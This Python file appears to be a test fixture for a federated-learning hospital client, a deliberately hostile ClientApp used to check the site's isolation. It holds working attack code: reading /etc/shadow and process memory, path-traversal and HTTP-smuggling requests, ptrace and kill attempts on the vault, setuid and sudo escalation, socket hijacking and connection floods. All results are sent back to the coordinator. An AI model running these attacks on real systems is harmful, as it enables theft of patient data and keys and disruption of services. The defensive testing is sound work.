"""A hostile coordinator's ClientApp: it tries to get at all that a hospital has.

``test_hostile_bundle.py`` puts it into a bundle as ``client/app.py``, beside a file ``bodies.json``
with bodies for the vault's socket. Nothing in here is clever; everything is tried, and all that
was got goes back to the coordinator.
"""

import base64
import ctypes
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from contextlib import suppress
from functools import partial
from pathlib import Path
from typing import Any

from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp

INSTALLED = """
import json, sys, tempfile
from pathlib import Path
from client.config import SiteConfig, site_key
config = SiteConfig.load(Path(sys.argv[1]))
found = {}
def attempt(name, action):
    try:
        found[name] = {"got": repr(action())}
    except BaseException as error:
        found[name] = {"error": type(error).__name__}
def start_site():
    from client.site import Site
    return Site(config)
def start_vault():
    from client.vault import Vault
    return Vault(config)
def serve():
    from client.daemon import run
    return run(config)
def approvals():
    from client.approvals import approved
    return approved(config)
def own_site():
    from client.site import Site
    from common.study import Study
    own = config.model_copy(update={"state": Path(tempfile.mkdtemp())})
    task = {"modality": "CT", "classes": ["well", "gaucher"]}
    backbone = {"name": "test_resnet", "weights": "none"}
    values = {"name": "x", "rounds": 1, "backbone": backbone, "tasks": {"ct": task}}
    return Site(own).declare(Study.parse(values))
attempt("import: site key", lambda: site_key(config))
attempt("import: site", start_site)
attempt("import: vault", start_vault)
attempt("import: daemon", serve)
attempt("import: approvals", approvals)
attempt("import: site of its own", own_site)
attempt("import: manifest", lambda: [f.manifest.read_bytes() for f in config.data.values()])
print(json.dumps(found))
"""

REQUESTS = (
    "GET / HTTP/1.1",
    "GET /status HTTP/1.1",
    "GET /order HTTP/1.1",
    "PUT /order HTTP/1.1",
    "DELETE /order HTTP/1.1",
    "OPTIONS * HTTP/1.1",
    "POST / HTTP/1.1",
    "POST /status HTTP/1.1",
    "POST /order/ HTTP/1.1",
    "POST //order HTTP/1.1",
    "POST /ORDER HTTP/1.1",
    "GET /../state/site.key HTTP/1.1",
    "GET /order/../../state/site.key HTTP/1.1",
    "GET /%2e%2e/state/site.key HTTP/1.1",
    "GET /order%2f..%2f..%2fstate%2fsite.key HTTP/1.1",
    "GET file:///etc/passwd HTTP/1.1",
    "GET /openapi.json HTTP/1.1",
    "CONNECT 127.0.0.1:22 HTTP/1.1",
    "POST /order HTTP/1.0",
    "NONSENSE",
    "GET /ü HTTP/1.1",
    "GET /\0 HTTP/1.1",
)

app = ClientApp()
_loot: dict[str, dict[str, Any]] = {}


@app.query()
def query(message: Message, context: Context) -> Message:
    """Try everything, and send home what came of it."""
    if os.getuid() == 0:
        raise PermissionError("root could do all this")
    vault = Path(str(context.node_config["vault"]))
    folder = vault.parent.parent
    # In this order: the vault writes so many lines a minute of what is tried at its socket.
    _bodies(vault)
    _requests(vault)
    _files(folder)
    _processes(folder)
    _privileges(folder)
    _installed(folder)
    _socket_file(vault)
    _floods(vault)
    reply = RecordDict({"loot": ConfigRecord({name: json.dumps(_loot[name]) for name in _loot})})
    return Message(reply, reply_to=message)


def _attempt(name: str, action: Callable[[], Any]) -> None:
    """Note what an action gave, or that it failed."""
    try:
        got = action()
    except BaseException as error:  # noqa: BLE001 - whatever it is, the next is tried
        _loot[name] = {"error": type(error).__name__}
        return
    plain = base64.b64encode(got).decode() if isinstance(got, bytes) else repr(got)
    _loot[name] = {"got": plain, "bytes": isinstance(got, bytes)}


def _files(folder: Path) -> None:
    """Read, list and write whatever a hospital's layout is known to have."""
    text = (folder / "site.toml").read_text()
    _attempt("read site.toml", lambda: text)
    manifests = [folder / name for name in re.findall(r'manifest = "(.+)"', text)]
    state = folder / "state"
    names = ("site.key", "ledger.jsonl", "audit.jsonl", "approvals.json", "coordinator.json")
    files = [folder / "site.toml", *(state / name for name in (*names, "site.log"))]
    files += [*manifests, *(one.parent / "images/scan_0_0.png" for one in manifests)]
    files += [folder / "supervisor/processes.json", folder / "supervisor/vault.log"]
    for file in files:
        _attempt(f"write {file}", partial(_append, file))
        _attempt(f"link {file}", partial(os.link, file, folder / "courier/tmp/link"))
    system = [Path(name) for name in ("/etc/shadow", "/root/.bashrc", "/proc/1/environ")]
    for file in [*files[1:], *system]:
        _attempt(f"read {file}", file.read_bytes)
    folders = [folder, state, state / "spool", state / "studies", folder / "supervisor"]
    folders += [one.parent for one in manifests] + [one.parent / "images" for one in manifests]
    for one in folders:
        _attempt(f"make {one}", partial((one / "paused").write_bytes, b"x"))
        _attempt(f"remove {one}", partial(shutil.rmtree, one))
        _attempt(f"open {one}", partial(one.chmod, 0o777))
    for one in [*folders, Path("/root")]:
        _attempt(f"list {one}", partial(os.listdir, one))


def _processes(folder: Path) -> None:
    """Look into the vault's process, and try to end it."""
    for entry in Path("/proc").glob("[0-9]*"):
        words, owner = b"", os.getuid()
        with suppress(OSError):
            words, owner = (entry / "cmdline").read_bytes(), entry.stat().st_uid
        if str(folder).encode() in words and owner != os.getuid():
            _process(entry, words.decode())
        elif str(folder).encode() in words:
            _attempt(f"own process {entry.name}", (entry / "environ").read_bytes)


def _append(file: Path) -> None:
    with file.open("ab") as opened:
        opened.write(b"x")


def _process(entry: Path, words: str) -> None:
    who, pid = f"process {entry.name}", int(entry.name)
    _loot[who] = {"words": words}
    for name in ("environ", "mem", "maps", "stack", "auxv", "root/etc/passwd"):
        _attempt(f"{who} {name}", (entry / name).read_bytes)
    for name in ("fd", "root", "cwd", "map_files"):
        _attempt(f"{who} {name}", partial(os.listdir, entry / name))
    _attempt(f"{who} trace", lambda: _trace(pid))
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        _attempt(f"{who} {number.name}", partial(os.kill, pid, number))


def _trace(pid: int) -> None:
    """Attach as a debugger would (ptrace(2), PTRACE_ATTACH)."""
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, pid, 0, 0):
        raise OSError(ctypes.get_errno(), "ptrace")


def _privileges(folder: Path) -> None:
    """Become somebody else."""
    owner = folder.stat().st_uid
    _attempt("become root", lambda: os.setuid(owner))
    _attempt("become another", lambda: os.setuid(4))
    _attempt("join groups", lambda: os.setgroups([0]))
    _attempt("mount", lambda: subprocess.run(["mount", "--bind", "/", "/mnt"], check=True))
    _attempt("sudo", lambda: subprocess.run(["sudo", "-n", "true"], check=True))
    _attempt("su", lambda: subprocess.run(["su", "-c", "true"], check=True, input=b""))


def _installed(folder: Path) -> None:
    """Use the installed client, whose code this user may read, to open the data."""
    command = [sys.executable, "-c", INSTALLED, str(folder)]
    own = tempfile.mkdtemp()
    env = {**os.environ, "TMPDIR": own}
    try:
        done = subprocess.run(
            command, cwd="/", env=env, capture_output=True, timeout=60, check=True
        )
        _loot.update(json.loads(done.stdout))
    except (subprocess.SubprocessError, ValueError) as error:
        _loot["import"] = {"failed": f"{error!r} {getattr(error, 'stderr', b'')!r}"}
    finally:
        shutil.rmtree(own)


def _socket_file(vault: Path) -> None:
    """Take the vault's place."""
    _attempt("socket: remove", vault.unlink)
    _attempt("socket: rename", lambda: vault.rename(vault.with_name("old")))
    _attempt("socket: replace", lambda: Path(__file__).rename(vault))
    _attempt("socket: open to all", lambda: vault.chmod(0o777))
    _attempt("socket: beside", lambda: _bind(vault.with_name("vault2.sock")))
    _attempt("socket: bind", lambda: _bind(vault))


def _bind(path: Path) -> None:
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(str(path))


def _bodies(vault: Path) -> None:
    """Hand in what is no order, or none that the vault should follow."""
    bodies = json.loads((Path(__file__).parent / "bodies.json").read_text())
    for name, text in bodies.items():
        body = base64.b64decode(text)
        head = f"POST /order HTTP/1.1\r\nHost: v\r\nContent-Length: {len(body)}\r\n\r\n"
        _attempt(f"body: {name}", partial(_ask, vault, head.encode() + body))
    start = "POST /order HTTP/1.1\r\nHost: v\r\n"
    announced = f"{start}Content-Length: {10**12}\r\n\r\n".encode()
    _attempt("body: announced too large", lambda: _ask(vault, announced))
    longer = f"{start}Content-Length: 8\r\n\r\n".encode() + b"x" * 100_000
    _attempt("body: longer than announced", lambda: _ask(vault, longer))
    shorter = f"{start}Content-Length: 1000\r\n\r\n".encode() + b"x" * 10
    _attempt("body: shorter than announced", lambda: _ask(vault, shorter, hang_up=True))
    broken = f"{start}Transfer-Encoding: chunked\r\n\r\nnonsense\r\n".encode()
    _attempt("body: broken chunks", lambda: _ask(vault, broken))
    both = f"{start}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n".encode()
    _attempt("body: two lengths", lambda: _ask(vault, both))
    _attempt("body: without end", lambda: _pour(vault, start))


def _pour(vault: Path, start: str) -> int:
    """Send a body without end, and return how much of it was taken."""
    piece, sent = b"10000\r\n" + b"x" * 65536 + b"\r\n", 0
    with _connected(vault) as raw:
        raw.sendall(f"{start}Transfer-Encoding: chunked\r\n\r\n".encode())
        with suppress(ConnectionError):
            while sent < 2000 * len(piece):
                raw.sendall(piece)
                sent += len(piece)
    return sent


def _requests(vault: Path) -> None:
    """Ask for anything but an order."""
    for line in REQUESTS:
        text = f"{line}\r\nHost: v\r\nConnection: close\r\nContent-Length: 0\r\n\r\n".encode()
        _attempt(f"ask: {line}", partial(_ask, vault, text))
    large = b"GET / HTTP/1.1\r\nX: " + b"x" * 1_000_000 + b"\r\n\r\n"
    _attempt("ask: a header of a megabyte", lambda: _ask(vault, large))


def _floods(vault: Path) -> None:
    """Open many connections, half of them with the beginning of an order, and many requests."""
    held = []
    try:
        for number in range(300):
            with suppress(OSError):
                held.append(_connected(vault))
                if number % 2:
                    held[-1].send(b"POST /order HTTP/1.1\r\nHost: v\r\nContent-Length: 100\r\n\r\n")
        _loot["flood: connections"] = {"words": str(len(held))}
    finally:
        for raw in held:
            raw.close()
    for number in range(200):
        with suppress(OSError):
            _ask(vault, f"GET /flood/{number} HTTP/1.1\r\nHost: v\r\n\r\n".encode())
    _attempt("flood: afterwards", lambda: _ask(vault, b"GET /after HTTP/1.1\r\nHost: v\r\n\r\n"))


def _connected(vault: Path) -> socket.socket:
    raw = socket.socket(socket.AF_UNIX)
    raw.settimeout(5)
    for _ in range(500):  # the vault keeps few waiting
        with suppress(BlockingIOError):
            raw.connect(str(vault))
            return raw
        time.sleep(0.01)
    raw.close()
    raise TimeoutError("the vault does not take the connection")


def _ask(vault: Path, text: bytes, *, hang_up: bool = False) -> bytes:
    """Send a text to the vault's socket, and return all that comes back."""
    found = b""
    with _connected(vault) as raw:
        with suppress(ConnectionError):
            raw.sendall(text)
        if hang_up:
            raw.shutdown(socket.SHUT_WR)
        with suppress(ConnectionError):
            while part := raw.recv(65536):
                found += part
    return found
